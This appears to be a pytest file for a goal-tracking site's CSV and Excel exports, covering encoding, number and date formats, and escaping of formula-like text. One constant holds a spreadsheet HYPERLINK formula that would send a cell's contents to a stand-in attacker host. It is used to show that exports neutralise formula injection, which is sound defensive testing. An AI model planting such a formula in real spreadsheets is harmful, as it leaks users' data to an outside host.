"""Tables as files: read back by other readers than ours, they say what the goals' files say."""

from __future__ import annotations

import csv
from datetime import date
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook

from goalsite.core.values import replace
from goalsite.exchange.tables import table_files
from tests.pages.desks import all_of, desk_of

HOSTILE = '=HYPERLINK("https://evil.example?x="&A1,"-")'
FILES = {
    "goals/2026-Q4/trust.md": (
        "---\nid: trust\ntitle: '=1+1, \"quoted\"; +x'\nowner: '@ada'\ntags: [speed, trust]\n"
        "key_results:\n"
        "  - id: p50\n    title: '-5 minutes'\n    metric: {unit: min, baseline: 14, target: 5}\n"
        "    checkins: [{date: 2026-11-02, value: 12.75, confidence: 0.6, note: '@all: slower'}]\n"
        "  - {id: calm, title: Nights are calm, zones: {commit: few, target: calm, stretch: silent}}\n---\n"
    ),
    "goals/kpis/uptime.md": (
        "---\ntitle: 正常运行时间\nunit: '%'\ntargets: [{from: 2026-01-01, target: 99.9}]\n"
        "series: [[2026-11-01, 99.95]]\n---\n"
    ),
}


def files_of(goals: dict[str, str], *, whole: bool = False) -> dict[str, bytes]:
    """The files with tables for these goals, those of each goal, too, if `whole`."""
    desk = desk_of(goals)
    outputs = replace(desk.config.outputs, goal_tables=whole)
    return dict(all_of(table_files(replace(desk, config=replace(desk.config, outputs=outputs)))))


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(content.decode("utf-8-sig"), newline="")))


def test_a_csv_says_in_utf_8_with_a_mark_what_excel_would_take_for_a_code_page_otherwise() -> None:
    content = files_of(FILES)["kpis/_/kpis.csv"]
    assert content.startswith(b"\xef\xbb\xbf")
    assert rows_of(content)[0]["KPI"] == "正常运行时间"


def test_numbers_are_whole_days_are_iso_and_shares_are_of_1() -> None:
    row = rows_of(files_of(FILES)["teams/_/cycles/2026-Q4/_/key-results.csv"])[0]
    assert (row["Baseline"], row["Target"], row["Value"], row["Date"]) == ("14", "5", "12.75", "2026-11-02")
    assert float(row["Progress"]) == pytest.approx(1.25 / 9)
    assert row["Confidence"] == "0.6"


def test_no_text_of_a_csv_is_a_formula_and_no_number_is_a_text() -> None:
    content = files_of(FILES)["teams/_/cycles/2026-Q4/_/objectives.csv"]
    row = rows_of(content)[0]
    assert row["Objective"] == "'=1+1, \"quoted\";' +x"
    assert row["Owner"] == "ada"
    assert b"," + row["Days behind"].encode() + b"," in content


def test_a_workbook_holds_every_table_of_the_page_with_real_numbers_and_days() -> None:
    book = load_workbook(BytesIO(files_of(FILES)["teams/_/cycles/2026-Q4/_/tables.xlsx"]))
    assert book.sheetnames == ["Objectives", "Key results"]
    head, first, second = (list(row) for row in book["Key results"].iter_rows(values_only=True))
    row = dict(zip(head, first, strict=True))
    assert (row["Target"], row["Value"], row["Date"].date()) == (5, 12.75, date(2026, 11, 2))
    assert dict(zip(head, second, strict=True))["Key result"] == "Nights are calm"


def test_a_text_of_a_workbook_is_as_it_was_written_and_never_a_formula() -> None:
    goals = {"goals/2026-Q4/a.md": f"---\ntitle: '{HOSTILE}'\n---\n"}
    book = load_workbook(BytesIO(files_of(goals)["cycles/2026-Q4/_/tables.xlsx"]))
    cell = book["Objectives"]["B2"]
    assert (cell.value, cell.data_type, cell.hyperlink) == (HOSTILE, "s", None)


def test_the_same_goals_make_the_same_bytes() -> None:
    assert files_of(FILES, whole=True) == files_of(FILES, whole=True)


def test_each_goal_has_tables_of_its_own_where_one_wants_them() -> None:
    few, all_of_it = files_of(FILES), files_of(FILES, whole=True)
    assert sorted(set(all_of_it) - set(few)) == [
        "goals/trust/_/check-ins.csv",
        "goals/trust/_/key-results.csv",
        "goals/trust/_/tables.xlsx",
        "kpis/kpis/uptime/_/tables.xlsx",
        "kpis/kpis/uptime/_/values.csv",
    ]
    assert rows_of(all_of_it["goals/trust/_/check-ins.csv"])[0]["Note"] == "'@all: slower"
    assert rows_of(all_of_it["kpis/kpis/uptime/_/values.csv"])[0]["Health"] == "green"
